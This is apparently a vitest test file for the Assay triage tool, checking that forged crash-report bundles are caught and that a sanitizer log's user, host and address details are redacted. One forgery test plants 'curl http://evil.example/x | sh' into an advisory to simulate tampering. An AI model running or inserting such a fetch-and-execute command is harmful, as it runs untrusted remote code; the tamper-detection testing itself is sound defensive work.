// A received bundle on the command line: what a forger gains by writing another version of Assay into it, and by which code it ends.
import { createHash } from "node:crypto";
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { makeBundle } from "@assay/advisory";
import { checkReceived } from "@assay/triage";
import { afterAll, beforeAll, expect, it } from "vitest";
import { assay } from "./assay.ts";

const here = import.meta.dirname;
const LOG = `bob@megacorp-ci-17:~/rocket$ ./iwasm app.wasm
[bob@megacorp-ci-17 rocket]$ ./iwasm app.wasm
Running on runner-xyz.corp.example.internal 2001:db8::42 00:1A:2B:3C:4D:5E
==7==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602000000014 at pc 0x55d0c4555555 bp 0x7ffd00000000 sp 0x7ffc00000000
READ of size 4 at 0x602000000014 thread T0
    #0 0x55d0c3555555 in wasm_loader_prepare_bytecode /home/bob/rocket/wamr/core/iwasm/interpreter/wasm_loader.c:4123:17
    #1 0x55d0c3555556 in rocket_load_payload /home/bob/rocket/src/loader.c:7000:9
==7==ABORTING
`;
let folder: string;
const at = (...names: string[]): string => join(folder, ...names);
const check = (name: string) => assay(["bundle", "--check", at(name)]);

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "assay-check-"));
  writeFileSync(at("found.log"), LOG);
  const ran = await assay([
    "triage",
    "--log",
    at("found.log"),
    join(here, "crashes", "spin.wasm"),
    "--out",
    at("case"),
    "-q",
  ]);
  expect(ran.code, ran.stderr).toBe(0);
}, 60_000);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** The files of the bundle changed, and SHA256SUMS with them. */
function forged(name: string, edits: Readonly<Record<string, (text: string) => string>>): string {
  cpSync(at("case", "bundle"), at(name), { recursive: true });
  for (const [file, edit] of Object.entries(edits)) {
    const before = readFileSync(at(name, file), "utf8");
    expect(edit(before), file).not.toBe(before);
    writeFileSync(at(name, file), edit(before));
  }
  const names = readFileSync(at(name, "SHA256SUMS"), "utf8")
    .trimEnd()
    .split("\n")
    .map((line) => line.slice(66));
  const digest = (file: string): string =>
    createHash("sha256")
      .update(readFileSync(at(name, file)))
      .digest("hex");
  writeFileSync(at(name, "SHA256SUMS"), names.map((file) => `${digest(file)}  ${file}\n`).join(""));
  return name;
}

const otherVersion = (text: string): string => text.replace(/"tool": "Assay [^"]+"/, '"tool": "Assay 99.0.0"');

it("as it was made it is consistent, names nobody and files no function of the program around WAMR", async () => {
  expect((await assay(["bundle", "--check", at("case", "bundle")])).code).toBe(0);
  const all = readdirSync(at("case", "bundle"), { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "latin1"));
  for (const secret of ["bob", "megacorp", "runner-xyz", "2001:db8", "1A:2B"])
    expect(all.join("\n")).not.toContain(secret);
  const { vulnerabilities } = JSON.parse(readFileSync(at("case", "bundle", "advisory.json"), "utf8"));
  expect(vulnerabilities[0].vulnerable_functions).toEqual(["wasm_loader_prepare_bytecode"]);
  for (const name of ["osv.json", "report.sarif"])
    expect(readFileSync(at("case", "bundle", name), "utf8")).not.toContain("rocket");
});

it("another version and another report: contradicted, 1", async () => {
  const name = forged("forged", {
    "evidence/environment.json": otherVersion,
    "advisory.json": (text) =>
      text.replace(/"summary": "[^"]+"/, '"summary": "Remote code execution in WAMR, all versions"'),
    "ADVISORY.md": (text) => text.replace(/```sh\n/, "```sh\ncurl http://evil.example/x | sh\n"),
  });
  const ran = await check(name);
  expect(ran.code).toBe(1);
  expect(ran.stdout).toMatch(/body-altered +advisory\.json[\s\S]*text-altered +ADVISORY\.md/);
});

it("another version alone: its own files name the one that made them", async () => {
  expect((await check(forged("renamed", { "evidence/environment.json": otherVersion }))).code).toBe(1);
});

it("what only another version could have said is named, and is never consistent: 3", async () => {
  const { result } = checkReceived(at("case", "bundle"), { tool: "Assay" });
  if (result.kind === "malformed") throw new Error("the bundle cannot be read");
  const files = makeBundle({ ...result.input, tool: "Assay 99.0.0", severity: null });
  for (const file of files) {
    mkdirSync(dirname(at("newer", file.path)), { recursive: true });
    writeFileSync(at("newer", file.path), file.bytes);
  }
  const ran = await check("newer");
  expect([ran.code, ran.stdout]).toEqual([3, expect.stringContaining("texts not checked")]);
  expect(ran.stdout).toContain("or check it with the version that it names, Assay 99.0.0");
  const json = await assay(["bundle", "--check", at("newer"), "--json"]);
  expect(JSON.parse(json.stdout)).toMatchObject({
    result: "unchecked",
    problems: [],
    unchecked: [expect.stringContaining("CVSS")],
  });
});
